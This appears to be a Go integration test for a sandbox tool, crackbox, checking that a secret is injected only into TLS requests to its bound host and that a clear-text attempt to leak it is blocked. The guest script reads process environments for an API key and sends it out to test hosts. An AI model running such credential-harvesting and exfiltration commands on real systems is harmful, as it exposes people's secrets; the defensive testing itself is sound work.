package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/crackbox/crackbox/internal/jailtest"
	"github.com/crackbox/crackbox/internal/nettest"
)

// secretValue is what the invoking environment holds; the guest must never see it.
const secretValueText = "sk-live-crackbox-test-7d3f9a1c5e"

// recordingUpstream serves api.test over TLS (its own CA) and other.test over
// plain HTTP on a random loopback address, records every request and echoes
// the request headers back in the body.
type recordingUpstream struct {
	ip, caFile string
	mu         sync.Mutex
	seen       bytes.Buffer
}

func startRecordingUpstream(t *testing.T) *recordingUpstream {
	t.Helper()
	u := &recordingUpstream{ip: fmt.Sprintf("127.%d.%d.2", 100+mrand.IntN(150), 1+mrand.IntN(250))}
	caPEM, cert := testCA(t, []string{"api.test"})
	dir := t.TempDir()
	u.caFile = filepath.Join(dir, "ca.pem")
	os.WriteFile(u.caFile, caPEM, 0o644)
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var b strings.Builder
		fmt.Fprintf(&b, "%s %s?%s\n", r.Host, r.URL.Path, r.URL.RawQuery)
		r.Header.Write(&b)
		u.mu.Lock()
		u.seen.WriteString(b.String() + "\n")
		u.mu.Unlock()
		w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
		if r.URL.Path == "/reflect" {
			// The value in a header name and in trailers, announced or not.
			v := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
			w.Header().Set("X-Seen-"+v, "1")
			w.Header().Set("Trailer", "X-Tr-Value")
			fmt.Fprint(w, "reflect\n")
			w.Header().Set("X-Tr-Value", v)
			w.Header().Set(http.TrailerPrefix+"X-Late-"+v, v)
			return
		}
		fmt.Fprint(w, "echo "+b.String())
	})
	for _, port := range []string{"80", "443"} {
		ln, err := net.Listen("tcp", net.JoinHostPort(u.ip, port))
		if err != nil {
			t.Skipf("upstream listen %s:%s: %v", u.ip, port, err)
		}
		var cfg *tls.Config
		if port == "443" {
			cfg = &tls.Config{Certificates: []tls.Certificate{cert}}
		}
		nettest.ServeHTTP(t, ln, h, cfg)
	}
	return u
}

func (u *recordingUpstream) requests() string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return u.seen.String()
}

const secretGuestScript = `
echo "ENV $(env | grep '^API_KEY=')"
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep '^API_KEY=' | sort -u | sed 's/^/ENVIRON /'
echo "CHECK curl $(curl -sS -o /tmp/curl.out -w '%{http_code}' -H "Authorization: Bearer $API_KEY" https://api.test/curl)"
sed 's/^/CURLBODY /' /tmp/curl.out
curl -sS --http1.1 --raw -i -H "Authorization: Bearer $API_KEY" https://api.test/reflect | tr -d '\r' | sed 's/^/REFLECT /'
echo "CHECK python $(python3 -c 'import os,urllib.request as u; print(u.urlopen("https://api.test/py?key="+os.environ["API_KEY"]).status)' 2>&1 | tail -1)"
echo "CHECK plain_leak $(curl -s -o /dev/null -w '%{http_code} %header{x-crackbox-error}' "http://other.test/?k=$API_KEY")"
echo "CHECK plain_ok $(curl -s -o /dev/null -w '%{http_code}' http://other.test/ok)"
`

// TestSecretInjectionGuest runs one real guest with --secret: its TLS
// clients reach the bound host with the value injected, it holds only the
// placeholder, and a placeholder sent in clear text is refused.
func TestSecretInjectionGuest(t *testing.T) {
	jailtest.Require(t)
	requireTap(t)
	u := startRecordingUpstream(t)
	cfg := filepath.Join(t.TempDir(), "crackbox.toml")
	body := fmt.Sprintf("[proxy]\nallow_cidrs = [%q]\nhosts = { \"api.test\" = [%q], \"other.test\" = [%q] }\nupstream_ca = %q\n",
		u.ip+"/32", u.ip, u.ip, u.caFile)
	os.WriteFile(cfg, []byte(body), 0o600)
	wd := t.TempDir()
	os.Chmod(wd, 0o777)
	runsDir := t.TempDir()
	logFile := filepath.Join(t.TempDir(), "decisions.jsonl")

	slot(t)
	ctx, cancel := context.WithTimeout(context.Background(), 6*time.Minute)
	defer cancel()
	cmd := netRun(t, ctx, wd, runsDir, "--config", cfg, "--root", "--net", "tap", "--timeout", "5m",
		"--log", logFile, "--allow", "api.test,other.test", "--secret", "API_KEY@api.test=env:HOST_API_KEY", "--",
		"sh", "-c", secretGuestScript)
	cmd.Env = append(cmd.Env, "HOST_API_KEY="+secretValueText)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	code := exitCode(cmd.Run())
	t.Logf("exit %d stderr:\n%s\nstdout:\n%s", code, errb.String(), out.String())
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	stdout := out.String()
	if strings.Contains(strings.ToLower(stdout+errb.String()), strings.ToLower(secretValueText)) {
		t.Fatal("the value reached the guest's output or crackbox's stderr")
	}
	var ph string
	for _, l := range strings.Split(stdout, "\n") {
		if v, ok := strings.CutPrefix(l, "ENV API_KEY="); ok {
			ph = v
		}
	}
	if !strings.HasPrefix(ph, "crackbox-secret-") {
		t.Fatalf("guest env API_KEY = %q, want a placeholder", ph)
	}
	for _, l := range strings.Split(stdout, "\n") {
		if v, ok := strings.CutPrefix(l, "ENVIRON "); ok && v != "API_KEY="+ph {
			t.Errorf("a process environment holds %q", v)
		}
	}
	got := parseChecks(stdout)
	for name, want := range map[string]string{
		"curl": "200", "python": "200",
		"plain_leak": "403 secret-exfiltration", "plain_ok": "200",
	} {
		if got[name] != want {
			t.Errorf("CHECK %s = %q, want %q", name, got[name], want)
		}
	}
	seen := u.requests()
	if !strings.Contains(seen, "Authorization: Bearer "+secretValueText) || !strings.Contains(seen, "/py?key="+secretValueText) {
		t.Errorf("upstream did not receive the value:\n%s", seen)
	}
	if strings.Contains(seen, "other.test /?k=") {
		t.Errorf("the refused request reached the upstream:\n%s", seen)
	}
	if !strings.Contains(stdout, "CURLBODY Authorization: Bearer "+ph) {
		t.Errorf("the echoed header did not come back as the placeholder")
	}
	if !strings.Contains(stdout, "REFLECT X-Tr-Value: "+ph) || !strings.Contains(strings.ToLower(stdout), "reflect x-seen-"+ph) {
		t.Errorf("the value reflected in a header name and a trailer did not come back as the placeholder")
	}
	if !strings.Contains(errb.String(), "where it is not bound: API_KEY (1)") {
		t.Errorf("exit summary does not name the secret:\n%s", errb.String())
	}
	// Nothing the run wrote holds the value.
	for _, root := range []string{runsDir, filepath.Dir(logFile)} {
		filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
			if err != nil || fi.IsDir() {
				return nil
			}
			b, _ := os.ReadFile(p)
			if bytes.Contains(b, []byte(secretValueText)) {
				t.Errorf("%s holds the value", p)
			}
			return nil
		})
	}
	if b, _ := os.ReadFile(logFile); !bytes.Contains(b, []byte(`"secret":"API_KEY"`)) {
		t.Errorf("decision log does not name the refused secret:\n%s", b)
	}
}
